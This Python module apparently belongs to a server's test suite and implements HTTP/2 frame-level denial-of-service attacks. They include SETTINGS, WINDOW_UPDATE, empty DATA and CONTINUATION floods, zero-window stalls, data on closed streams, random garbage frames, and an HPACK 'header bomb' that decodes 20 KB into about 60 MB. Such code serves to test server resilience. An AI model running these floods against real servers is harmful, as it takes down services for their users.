"""Attacks by frames that cost the client nothing: without calls, without data, or with headers that grow inside."""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import Awaitable, Callable, Mapping

from tests.attacks import frames
from tests.attacks.http2 import METHOD, Http2, Target, Toll, connected_to

_FRAMES = 1000  # in one write
_BLOCK = frames.header_block(METHOD)


async def repeat(connection: Http2, some: bytes, until: float, most: int = 1_000_000) -> int:
    """Writes the same bytes until the connection is closed, or it is enough; gives the number of bytes."""
    written = 0
    while connection.is_open and time.monotonic() < until and written < most:
        await connection.write(some)
        written += len(some)
        await asyncio.sleep(0)
    return written


async def _again_and_again(
    target: Target, toll: Toll, until: float, body: Callable[[Http2], Awaitable[object]]
) -> None:
    while time.monotonic() < until:
        async with connected_to(target, toll) as connection:
            await body(connection)
            await connection.ended(min(until, time.monotonic() + 0.2))
        await asyncio.sleep(0.01)


async def settings(target: Target, toll: Toll, until: float) -> None:
    """Settings without end: each must be acknowledged."""
    some = frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}) * _FRAMES
    await _again_and_again(target, toll, until, lambda one: repeat(one, some, until, 100_000_000))


async def empty_data(target: Target, toll: Toll, until: float) -> None:
    """A call whose message comes in frames without data."""

    async def body(connection: Http2) -> None:
        stream = connection.next_stream()
        await connection.write(frames.headers(stream, _BLOCK))
        await repeat(connection, frames.data(stream, b"") * _FRAMES, until, 100_000_000)

    await _again_and_again(target, toll, until, body)


async def window_updates(target: Target, toll: Toll, until: float) -> None:
    """Leave to send, again and again, for a connection on which nothing is sent."""
    some = frames.window_update(0, 1) * _FRAMES
    await _again_and_again(target, toll, until, lambda one: repeat(one, some, until, 100_000_000))


async def zero_window(target: Target, toll: Toll, until: float) -> None:
    """Whole calls by one who never takes an answer."""

    async def body(connection: Http2) -> None:
        await connection.write(frames.settings({frames.INITIAL_WINDOW_SIZE: 0}))
        for _ in range(50):
            stream = connection.next_stream()
            call = frames.headers(stream, _BLOCK) + frames.data(stream, b"\0" * 5, ends_stream=True)
            await connection.write(call)
        await connection.ended(until)

    await _again_and_again(target, toll, until, body)


def bomb(names: int = 15_000) -> bytes:
    """A header block of 20 KB that stands for 60 MB: one long header, which then is named by its number."""
    entry = b"\x40" + b"\x01x" + b"\x7f\x81\x1e" + b"y" * 3968  # into the table: it takes 4096 bytes at most
    return _BLOCK + entry + b"\xbe" * names


async def header_bombs(target: Target, toll: Toll, until: float) -> None:
    """Headers that grow when they are decoded."""
    block = bomb()

    async def body(connection: Http2) -> None:
        while connection.is_open and time.monotonic() < until:
            stream = connection.next_stream()
            first = frames.headers(stream, block[:16_000], ends_headers=False)
            await connection.write(first + frames.continuation(stream, block[16_000:], ends_headers=True))
            await asyncio.sleep(0)

    await _again_and_again(target, toll, until, body)


async def empty_continuations(target: Target, toll: Toll, until: float) -> None:
    """A header block that never ends, and never grows either."""

    async def body(connection: Http2) -> None:
        stream = connection.next_stream()
        connection.in_headers = True
        await connection.write(frames.headers(stream, _BLOCK, ends_headers=False))
        await repeat(connection, frames.continuation(stream, b"") * _FRAMES, until, 100_000_000)

    await _again_and_again(target, toll, until, body)


async def half_closed(target: Target, toll: Toll, until: float) -> None:
    """Data for calls that are over, and for ones that never began."""

    async def body(connection: Http2) -> None:
        while connection.is_open and time.monotonic() < until:
            stream = connection.next_stream()
            call = frames.headers(stream, _BLOCK) + frames.data(stream, b"\0" * 5, ends_stream=True)
            await connection.write(call + frames.data(stream, b"\0" * 1000) * 3 + frames.reset(stream))
            await asyncio.sleep(0)

    await _again_and_again(target, toll, until, body)


async def garbage(target: Target, toll: Toll, until: float) -> None:
    """Bytes that are neither TLS nor HTTP/2."""
    chance = random.Random(1)
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        toll.connected += 1
        try:
            writer.write(chance.randbytes(4096))
            async with asyncio.timeout(max(0.1, until - time.monotonic())):
                await writer.drain()
                await reader.read()
            toll.refused += 1
        except TimeoutError:
            return
        finally:
            writer.transport.abort()


async def garbage_after_preface(target: Target, toll: Toll, until: float) -> None:
    """Frames of any kind with any content."""
    chance = random.Random(1)

    async def body(connection: Http2) -> None:
        for _ in range(200):
            kind, length = chance.randrange(12), chance.randrange(40)
            some = frames.frame(kind, chance.randrange(256), chance.randrange(8), chance.randbytes(length))
            if not connection.is_open:
                return
            await connection.write(some)

    await _again_and_again(target, toll, until, body)


FRAME_ATTACKS: Mapping[str, Callable[[Target, Toll, float], Awaitable[None]]] = {
    "settings": settings,
    "empty-data": empty_data,
    "window-updates": window_updates,
    "zero-window": zero_window,
    "header-bombs": header_bombs,
    "empty-continuations": empty_continuations,
    "half-closed": half_closed,
    "garbage": garbage,
    "garbage-after-preface": garbage_after_preface,
}
